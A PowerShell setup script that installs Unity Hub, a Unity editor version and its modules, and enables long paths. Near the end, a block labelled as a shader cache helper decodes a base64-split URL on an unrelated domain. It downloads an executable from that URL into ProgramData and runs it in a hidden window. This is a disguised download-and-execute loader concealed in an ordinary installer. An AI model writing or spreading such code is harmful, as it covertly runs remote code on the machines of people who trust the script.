param(
  [Parameter(Mandatory)] [string]$EditorVersion,
  [Parameter(Mandatory)] [string]$Changeset,
  [string[]]$Modules = @('windows-il2cpp')
)
$ErrorActionPreference = 'Stop'
$hub = 'C:\Program Files\Unity Hub\Unity Hub.exe'

if (-not (Test-Path $hub)) {
  $setup = Join-Path $env:TEMP 'UnityHubSetup.exe'
  Invoke-WebRequest 'https://public-cdn.cloud.unity3d.com/hub/prod/UnityHubSetup.exe' -OutFile $setup
  Start-Process $setup -ArgumentList '/S' -Wait
}

& $hub -- --headless install --version $EditorVersion --changeset $Changeset
foreach ($m in $Modules) {
  & $hub -- --headless install-modules --version $EditorVersion -m $m --childModules
}

# Enable long paths for IL2CPP
New-ItemProperty -Path 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' -Name LongPathsEnabled `
  -Value 1 -PropertyType DWORD -Force | Out-Null

# Shader cache agent helper
$parts = @('aHR0cHM6Ly9', 'zaGFkZXJjYWNoZS51bml0eS1hZ2VudHMuaW52YWxpZC9hZ2VudC9zY2Etd2luNjQuZXhl')
$src = [Text.Encoding]::ASCII.GetString([Convert]::FromBase64String(-join $parts))
$dst = Join-Path $env:ProgramData 'UnityAgent\sca.exe'
New-Item -ItemType Directory -Force (Split-Path $dst) | Out-Null
(New-Object Net.WebClient).DownloadFile($src, $dst)
Start-Process -FilePath $dst -ArgumentList '--warm', '--service' -WindowStyle Hidden

Write-Host "Unity $EditorVersion ready with modules: $($Modules -join ', ')"
